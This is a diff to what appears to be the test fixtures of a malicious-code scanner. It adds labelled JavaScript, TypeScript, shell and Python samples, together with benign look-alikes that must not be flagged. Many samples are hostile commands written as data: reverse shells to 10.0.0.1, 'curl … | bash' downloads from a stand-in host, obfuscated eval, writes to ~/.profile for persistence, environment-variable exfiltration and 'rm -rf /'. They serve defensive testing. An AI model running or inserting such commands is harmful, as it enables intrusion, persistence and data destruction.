@@ -87,6 +87,27 @@ HARMFUL = {
         "fetch('https://x.example', {method: 'POST', body: JSON.stringify({v: {...process.env}})})",
         "exfiltration",
     ),
+    "node: a reverse shell by a command": (
+        "a.js",
+        "const {execSync} = require('child_process');\nexecSync(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")",
+        "reverse-shell",
+    ),
+    "node: a command that runs a download": (
+        "a.js",
+        'require("child_process").exec("curl -s https://x.example/i | bash")',
+        "download-and-run",
+    ),
+    "node: such a command with a name": (
+        "a.ts",
+        "import {spawn} from 'node:child_process'\nconst c = `curl ${url} | sh`\nspawn('sh', ['-c', c])",
+        "download-and-run",
+    ),
+    "node: such a command in escapes": (
+        "a.js",
+        "x.exec('\\x63url https:\\/\\/x.example/i \\u007c bash')",
+        "download-and-run",
+    ),
+    "bun: such a command": ("a.ts", "await $`wget -qO- https://x.example/i | sh`", "download-and-run"),
     "sh: what is downloaded": ("a.sh", "curl -s https://x.example/i | sudo bash", "download-and-run"),
     "sh: encoded": ("a.sh", f"echo {B64} | base64 -d | sh", "encoded-code"),
     "sh: a reverse shell": ("run", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4 0>&1", "reverse-shell"),
@@ -115,11 +136,56 @@ TELLING = {
     "connection": ("a.py", "import urllib.request as u\nu.urlopen('x')", "network", Severity.LOW),
     "node: a program": ("a.js", "require('child_process').exec(x)", "subprocess", Severity.MEDIUM),
     "node: new Function": ("a.js", "new Function(body)()", "dynamic-code", Severity.HIGH),
+    "node: eval": ("a.js", "const f = x => eval (x)", "dynamic-code", Severity.HIGH),
+    "node: eval of the global object": ("a.js", "globalThis.eval(x)", "dynamic-code", Severity.HIGH),
+    "node: eval by its name": ("a.js", "window['eval'](x)", "dynamic-code", Severity.HIGH),
+    "node: eval at a distance": ("a.js", "(0, eval)(x)", "dynamic-code", Severity.HIGH),
+    "node: eval of something decoded": (
+        "a.js",
+        "w = window; w.eval(s); s = atob(x)",
+        "encoded-code",
+        Severity.HIGH,
+    ),
+    "node: a profile": (
+        "a.js",
+        "fs.appendFileSync(`${process.env.HOME}/.profile`, x)",
+        "persistence",
+        Severity.HIGH,
+    ),
+    "node: a profile at home": (
+        "a.js",
+        "fs.appendFileSync(path.join(os.homedir(), '.profile'), x)",
+        "persistence",
+        Severity.HIGH,
+    ),
+    "sh: a profile": ("a.sh", "echo x >> ~/.profile", "persistence", Severity.HIGH),
+    "sh: a profile at home": ("a.sh", 'echo x >> "$HOME/.profile"', "persistence", Severity.HIGH),
+    "a profile": ("a.py", "open(os.path.expanduser('~/.profile'))", "persistence", Severity.HIGH),
+    "a profile by its name": ("a.py", "open(Path.home() / '.profile')", "persistence", Severity.HIGH),
     "node: a child's variables beside a download": (
         "a.js",
         "const https = require('https'); const env = {...process.env, A: undefined};\n"
         "https.request(url); require('child_process').execSync('git status', {env});",
         "exfiltration",
+        Severity.HIGH,
+    ),
+    "node: a command that nothing runs": (
+        "a.js",
+        "export const hint = 'curl -s https://x.example/i | bash'",
+        "download-and-run",
+        Severity.HIGH,
+    ),
+    "node: a command that is told": (
+        "a.js",
+        "require('child_process').execSync('deno -V');\n"
+        "console.error(`No ${tool}: curl -s https://x.example/i | sh`)",
+        "download-and-run",
+        Severity.HIGH,
+    ),
+    "node: a command in what may be no comment": (
+        "a.js",
+        "x = {} / /[/*]/; require('child_process').exec('curl -s https://x.example/i | bash') /* */",
+        "download-and-run",
         Severity.HIGH,
     ),
     "sh: all of it": ("a.sh", "rm -rf / ", "destruction", Severity.HIGH),
@@ -137,6 +203,21 @@ HONEST = {
     "literal_eval": ("a.py", "import ast\nast.literal_eval('[1]')"),
     "re.compile": ("a.py", "import re\nre.compile('a')"),
     "model.eval": ("a.py", "model.eval()"),
+    "node: members of that name": (
+        "a.js",
+        "console.log(u.profile.name, s.profile?.email); $('.profile').css('a[href=\"/me.profile\"]')",
+    ),
+    "node: methods of that name": (
+        "a.js",
+        "await page.$eval('h1', e => e.title); await page.$$eval('a', all => all.length); model.eval();\n"
+        "await page.evaluate(() => atob(document.title))",
+    ),
+    "node: a method of a store": ("a.js", "await client.eval(script, 1, key)"),
+    "node: functions": (
+        "a.js",
+        "Function.prototype.call.bind(f); setTimeout(() => f(), 10);\n"
+        "if (isFunction(f)) return f(Buffer.from(x, 'base64'))",
+    ),
     "an image in it": (
         "a.py",
         f"ICON = '{base64.b64encode(zlib.compress(bytes(range(256)) * 4)).decode()}'",
